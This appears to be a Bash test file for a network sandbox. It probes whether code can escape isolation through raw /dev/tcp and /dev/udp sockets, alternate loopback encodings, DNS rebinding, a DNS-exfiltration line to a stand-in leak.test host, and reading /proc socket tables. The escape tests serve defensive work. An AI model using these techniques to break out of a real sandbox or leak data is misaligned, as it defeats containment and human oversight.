# Bash opens sockets itself: /dev/tcp and /dev/udp are not files, but names that Bash knows.

ask_tcp() { local line; exec {fd}<>"/dev/tcp/$1/$2" && read -r -t 1.5 line <&"$fd" && content "$line"; }

# Bash reads the first byte of a packet and loses the rest; one byte is enough.
ask_udp() { exec {fd}<>"/dev/udp/$1/$2" && printf ask >&"$fd" && read -r -t 0.3 -n 1 _ <&"$fd" && claim 'an answer came'; }

escape_tcp_other_port() { ask_tcp 127.0.0.1 "$other_port"; }
escape_tcp_other_port_by_name() { ask_tcp localhost "$other_port"; }
escape_tcp_other_port_by_zero() { ask_tcp 0.0.0.0 "$other_port"; }
escape_tcp_other_port_by_number() { ask_tcp 2130706433 "$other_port"; }
escape_tcp_ipv6() { ask_tcp ::1 "$other_port"; }
escape_tcp_ipv4_in_ipv6() { ask_tcp ::ffff:127.0.0.1 "$other_port"; }
escape_tcp_granted_port_of_loopback_neighbour() { ask_tcp 127.0.0.2 "$port"; }
escape_tcp_granted_port_of_other_host() { ask_tcp "$other_host" "$port"; }
escape_tcp_granted_port_of_forbidden_name() { ask_tcp "$forbidden_name" "$port"; }
escape_tcp_name_that_rebinds() { ask_tcp "$rebinding_name" "$port"; }
escape_udp() { ask_udp 127.0.0.1 "$udp_port"; }
escape_udp_ipv6() { ask_udp ::1 "$udp_port"; }
escape_udp_other_host() { ask_udp "$other_host" "$udp_port"; }

# A query for text at STRAY.leak.test, directly to the server on port 53. It counts if the canary server receives it.
escape_dns_server() {
	exec {fd}<>/dev/udp/127.0.0.1/53 || return
	printf '\0\7\1\0\0\1\0\0\0\0\0\0\x%x%s\4leak\4test\0\0\20\0\1' "${#stray}" "$stray" >&"$fd"
	did asked
}
escape_dns_exfiltration() { : <>"/dev/tcp/$stray.leak.test/80"; did asked; }
escape_see_interfaces() { content "$(</proc/net/dev)"; }
escape_see_abstract_names() { content "$(</proc/net/unix)"; }
escape_see_sockets_of_host() { content "$(<"/proc/$host_pid/net/unix")"; }
